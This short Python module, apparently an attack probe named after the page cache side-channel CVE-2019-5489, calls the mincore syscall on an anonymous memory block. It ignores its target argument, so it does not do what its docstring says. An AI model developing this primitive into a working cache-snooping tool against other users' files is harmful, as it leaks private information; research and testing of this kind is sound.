"""Learn which pages of a file are in memory."""

from __future__ import annotations

import ctypes
import platform

ORIGIN = "Page cache attacks (CVE-2019-5489)."
SEEN = "claimed"


def _call(x86_64, aarch64, *arguments):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return libc.syscall(x86_64 if platform.machine() == "x86_64" else aarch64, *arguments)


def attack(target):
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    block = libc.mmap(None, 4096, 3, 0x22, -1, 0)
    return _call(27, 232, ctypes.c_void_p(block), 4096, ctypes.create_string_buffer(1)) == 0
